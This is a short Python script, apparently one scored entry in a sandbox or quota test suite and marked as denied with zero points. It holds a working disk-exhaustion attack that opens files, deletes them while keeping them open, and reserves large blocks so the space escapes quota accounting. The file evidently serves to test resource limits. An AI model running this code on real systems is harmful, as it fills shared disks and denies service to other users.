"""Files that are deleted while they are open: they use disk space, but no folder lists them for a quota."""

# outcome: denied
# points: 0

import os
import signal


def attack(world):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    kept, megabytes = [], 0
    try:
        while True:
            kept.append(os.open(f"file{len(kept)}", os.O_RDWR | os.O_CREAT))
            os.unlink(f"file{len(kept) - 1}")
            for size in (1 << 40, 64 << 20, 32 << 20):
                try:
                    os.posix_fallocate(kept[-1], 0, size)
                    megabytes += size >> 20
                    break
                except OSError:
                    continue
    except OSError:
        return [f"{megabytes} MB"] if megabytes > 2048 else []
